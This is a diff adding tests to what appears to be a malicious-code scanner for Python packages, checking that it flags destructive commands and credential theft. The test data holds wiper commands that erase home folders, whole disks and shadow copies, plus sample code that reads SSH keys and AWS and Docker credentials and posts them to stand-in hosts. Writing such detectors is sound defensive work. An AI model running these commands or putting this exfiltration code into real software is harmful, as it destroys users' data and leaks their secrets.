@@ -54,6 +54,26 @@ test('words of the same family in ordinary text are not tampering', () => {
   assert.equal(ruleOf(list, 'cryptominer'), undefined);
 });
 
+test('wiper commands are destructive; cleaning a build or cache folder is not', () => {
+  const wipers = [
+    'subprocess.call("rm -rf ~/Documents", shell=True)',
+    'os.system("rm -rf --no-preserve-root /")',
+    'os.system("rd /s /q C:\\\\Users")',
+    'os.system("vssadmin delete shadows /all /quiet")',
+    'os.system("dd if=/dev/zero of=/dev/sda bs=1M")',
+  ];
+  for (const line of wipers) {
+    const found = ruleOf(findings(`import os, subprocess\ndef wipe():\n    ${line}\n`), 'destructive-command');
+    assert.equal(found?.severity, 'high', line);
+  }
+  for (const line of [
+    'os.system("rm -rf build/ dist/")',
+    'os.system("rm -rf ~/.cache/demo")',
+    'os.system("rm -rf /tmp/x")',
+  ])
+    assert.equal(ruleOf(findings(`import os\ndef clean():\n    ${line}\n`), 'destructive-command'), undefined, line);
+});
+
 test("a library that reads its caller's source through the call stack and posts it is exfiltration", () => {
   const source = [
     'import inspect, json, urllib.request',
@@ -157,4 +177,47 @@ test('a loop that runs the command lines a server replies with is a remote shell
   assert.match(shell!.message, /replies from a server/);
   const local = source.replace('for line in runcommand(resp)', 'for line in runcommand(LOCAL_COMMAND)');
   assert.equal(ruleOf(findings(local), 'reverse-shell'), undefined, 'a command from elsewhere than the reply');
+});
+
+test('files listed in the ~/.ssh folder and posted are SSH keys sent out (high, even when called)', () => {
+  const list = analyzePythonFile(
+    'demo/mod.py',
+    new TextEncoder().encode(
+      [
+        'import os, requests',
+        'def go():',
+        '    d = os.path.join(os.path.expanduser("~"), ".ssh")',
+        '    for name in os.listdir(d):',
+        '        requests.post("https://collect.example/y", files={"f": open(os.path.join(d, name), "rb")})',
+      ].join('\n'),
+    ),
+  )[0].findings;
+  const sent = list.find((f) => f.rule === 'exfiltration');
+  assert.equal(sent?.severity, 'high');
+  assert.match(sent!.message, /SSH keys/);
+});
+
+test('credential files read in a loop over a list of their paths and posted later are credentials sent out', () => {
+  const list = analyzePythonFile(
+    'demo/mod.py',
+    new TextEncoder().encode(
+      [
+        'import os, json, urllib.request',
+        'TARGETS = ["~/.aws/credentials", "~/.ssh/id_rsa", "~/.docker/config.json"]',
+        'def collect():',
+        '    out = {}',
+        '    for t in TARGETS:',
+        '        p = os.path.expanduser(t)',
+        '        if os.path.exists(p):',
+        '            out[t] = open(p).read()',
+        '    return out',
+        'def ship():',
+        '    body = json.dumps(collect()).encode()',
+        '    urllib.request.urlopen(urllib.request.Request("https://sync.example/u", data=body))',
+      ].join('\n'),
+    ),
+  )[0].findings;
+  const sent = list.find((f) => f.rule === 'exfiltration');
+  assert.equal(sent?.severity, 'high');
+  assert.match(sent!.message, /AWS credentials/);
 });
